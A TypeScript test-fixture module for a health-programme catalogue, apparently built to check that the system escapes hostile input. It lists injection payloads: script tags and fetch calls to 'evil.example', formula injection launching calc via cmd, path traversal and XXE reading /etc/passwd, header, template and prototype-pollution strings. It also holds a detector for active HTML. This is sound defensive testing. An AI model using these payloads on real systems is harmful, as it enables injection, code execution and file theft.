/** Texts that try to be more than text, and the catalogue of a ward whose every name is one. */
import { writeFileSync } from "node:fs";
import { stringify } from "yaml";
import { readCatalogueText } from "../../shared/catalogue/read-text.ts";
import type { CatalogueFile } from "../../shared/catalogue/schema.ts";

/** Where a link would lead that one of them smuggles in. */
export const ELSEWHERE = "evil.example";

/** By what would run them. Each is a text that may be entered, and has to come out as what it is. */
export const HOSTILE = {
  script: `<script src=//${ELSEWHERE}/a.js></script>`,
  "event of an element": `<img src=x onerror="fetch('//${ELSEWHERE}')">`,
  "end of an attribute": `" onfocus=alert(1) autofocus x="`,
  "end of an apostrophe": `' onmouseover='alert(1)`,
  "end of an element": `</title></textarea></script><svg/onload=alert(1)>`,
  address: `javascript:alert(document.domain)`,
  comment: `--><iframe src=//${ELSEWHERE}></iframe><!--`,
  "Typst code": `#eval("1+1") #read("/etc/passwd") #include "style.typ"`,
  "Typst markup": "$x^2$ *a* _b_ `c` @d <e> [[f]] \\ // /* #pagebreak()",
  "Typst link": `#link("https://${ELSEWHERE}")[x]`,
  formula: `=HYPERLINK("https://${ELSEWHERE}","x")`,
  "formula with plus": `+1+cmd|' /C calc'!A0`,
  "formula with minus": `-2+3+cmd|' /C calc'!A0`,
  "formula with at": `@SUM(1+1)*cmd|' /C calc'!A0`,
  "field of a CSV": `","=1+1","`,
  header: `x\r\nBcc: all@${ELSEWHERE}\r\n\r\nx`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is tried
  template: "${7*7} {{7*7}} <%= 7*7 %> #{7*7}",
  "member of an object": "__proto__",
  "function of an object": "constructor",
  path: "../../../../etc/passwd",
  "path in an address": "..%2f..%2fetc%2fpasswd",
  "entity of XML": `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y; ]]>`,
  "end of a record": `{"level":"ERROR","message":"x"}`,
  "zero-width letters": "a\u200bb\u2060c\u00ad",
} as const;
export const HOSTILE_TEXTS: readonly string[] = Object.values(HOSTILE);

/** What no text may hold: control characters, and marks that turn the writing around. */
export const UNPRINTABLE_TEXTS = ["a\u0000b", "a\u0007b", "a\u001b[2Jb", "\u202egpj.exe", "a\u2066b\u2069"];

/** Writes the catalogue as a file: each name, note, unit and message is the next of {@link HOSTILE_TEXTS}, in turn. */
export function writeHostileCatalogue(path: string, text: string): void {
  const read = readCatalogueText(text);
  if (!read.ok) throw new Error(JSON.stringify(read.faults));
  let next = 0;
  const hostile = (name: string) => {
    const found = HOSTILE_TEXTS[next % HOSTILE_TEXTS.length] ?? "";
    next += 1;
    // Numbered units keep their number.
    return `${found} ${next}${name.includes("{n}") ? " {n}" : ""}`;
  };
  const named = <T extends { readonly name: string }>(one: T): T => ({ ...one, name: hostile(one.name) });
  const { file } = read;
  const { programme } = file;
  const spoiled: CatalogueFile = {
    ...file,
    programme: {
      ...programme,
      name: hostile(programme.name),
      directive: hostile(programme.directive),
      wardName: hostile(programme.wardName),
      city: hostile(programme.city),
      issuer: hostile(programme.issuer),
    },
    orgUnits: file.orgUnits.map(named),
    narrative: file.narrative.map(named),
    models: file.models.map(named),
    dataSets: file.dataSets.map((dataSet) => ({
      ...named(dataSet),
      elements: dataSet.elements.map((element) => ({
        ...named(element),
        ...(element.unit !== undefined && { unit: hostile(element.unit) }),
      })),
      rules: dataSet.rules.map((rule) => ({ ...rule, message: hostile(rule.message) })),
    })),
    indicators: file.indicators.map((indicator) => ({
      ...named(indicator),
      ...(indicator.unit !== undefined && { unit: hostile(indicator.unit) }),
      note: hostile("note"),
    })),
  };
  writeFileSync(path, stringify(spoiled));
}

/** Elements and attributes that no page and no letter of the system has, with what is found of them. */
const FOREIGN_ELEMENTS = /<(?:iframe|object|embed|base|applet|frame|math|marquee)\b/i;
const TAG =
  /<([a-z][a-z0-9-]*)((?:[\s/]+[^\s"'<>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/gi;
const ATTRIBUTE = /([^\s"'<>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;

/** What in HTML would run, be loaded from elsewhere or lead there: as a browser takes tags apart, one finding each. */
export function activeIn(html: string): string[] {
  const found: string[] = [];
  if (FOREIGN_ELEMENTS.test(html)) found.push("foreign element");
  for (const [tag, name = "", attributes = ""] of html.matchAll(TAG)) {
    const element = name.toLowerCase();
    const of = new Map(
      [...attributes.matchAll(ATTRIBUTE)].map(([, key = "", double, single, bare]) => [
        key.toLowerCase(),
        double ?? single ?? bare ?? "",
      ]),
    );
    if (element === "script" && !/^\/tai-san\/[0-9a-f]{16}\/[a-z.-]+$/.test(of.get("src") ?? ""))
      found.push(tag);
    if (element === "img" || (element === "svg" && of.has("onload"))) found.push(tag);
    for (const [key, value] of of) {
      const leads = ["href", "src", "action", "formaction"].includes(key);
      if (key.startsWith("on") || key === "srcdoc" || key === "autofocus") found.push(tag);
      else if (
        leads &&
        (/^\s*(?:javascript|data(?!:,$)|vbscript):/i.test(value) || value.includes(ELSEWHERE))
      )
        found.push(tag);
    }
  }
  return found;
}
